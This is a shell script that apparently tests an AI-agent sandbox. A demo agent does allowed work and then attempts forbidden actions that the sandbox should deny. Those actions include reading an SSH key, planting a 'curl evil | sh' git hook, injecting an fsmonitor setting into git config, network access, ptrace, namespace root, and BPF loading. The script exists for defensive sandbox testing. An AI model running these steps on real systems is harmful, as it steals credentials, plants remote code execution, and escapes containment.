#!/bin/sh
# The demo agent: does real work in its workspace, then tries things its policy forbids.
# Each step prints one line: "ok", "DENIED" (expected for forbidden steps) or "ESCAPED".
# Exit status: 0 when every allowed step worked and every forbidden step was denied.

failures=0
allowed() { # allowed "description" command...
  desc=$1; shift
  if out=$("$@" 2>&1); then printf '  allowed  %-52s ok\n' "$desc"
  else printf '  allowed  %-52s FAILED: %s\n' "$desc" "$(echo "$out" | tail -n1)"; failures=$((failures+1)); fi
}
forbidden() { # forbidden "description" command...
  desc=$1; shift
  if out=$("$@" 2>&1); then printf '  forbid   %-52s ESCAPED\n' "$desc"; failures=$((failures+1))
  else printf '  forbid   %-52s denied (%s)\n' "$desc" "$(echo "$out" | tail -n1 | cut -c1-60)"; fi
}

echo "demo agent: pid $$, workspace $PWD"
echo "real work:"
allowed "read the repository history"      git log --oneline -1
allowed "write a source file"              sh -c 'printf "int main(void){return 0;}\n" > main.c'
allowed "commit it"                        sh -c 'git add main.c && git -c user.name=agent -c user.email=agent@example.invalid commit -qm "add main.c"'
allowed "run python3"                      python3 -c 'print(sum(range(10)))'
allowed "compile and run a C program"      sh -c 'cc -o main main.c && ./main'
allowed "spawn child processes and pipes"  sh -c 'seq 1 100 | sort -n | tail -n1 | grep -q 100'
echo "forbidden actions:"
forbidden "read a fake SSH key in \$HOME/.ssh"     cat "$HOME/.ssh/id_ed25519"
forbidden "write .git/hooks/pre-commit"            sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
forbidden "rewrite .git/config"                    sh -c 'echo "[core] fsmonitor = evil" >> .git/config'
forbidden "open a network connection"              python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), timeout=3)'
forbidden "ptrace another process"                 python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    import time; time.sleep(5); os._exit(0)
r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
err = ctypes.get_errno(); os.kill(pid, 9)
sys.exit(f"ptrace: {os.strerror(err)}" if r != 0 else 0)'
forbidden "escalate: become root in a user namespace" unshare -r true
forbidden "escalate: load a BPF program"           python3 -c '
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": 321, "aarch64": 280}[platform.machine()]
r = libc.syscall(nr, 5, 0, 0)  # bpf(BPF_PROG_LOAD, NULL, 0)
sys.exit(f"bpf: {os.strerror(ctypes.get_errno())}" if r != 0 else 0)'
echo
if [ "$failures" -eq 0 ]; then echo "demo agent: every allowed step worked, every forbidden step was denied"; else echo "demo agent: $failures unexpected result(s)"; fi
exit "$failures"
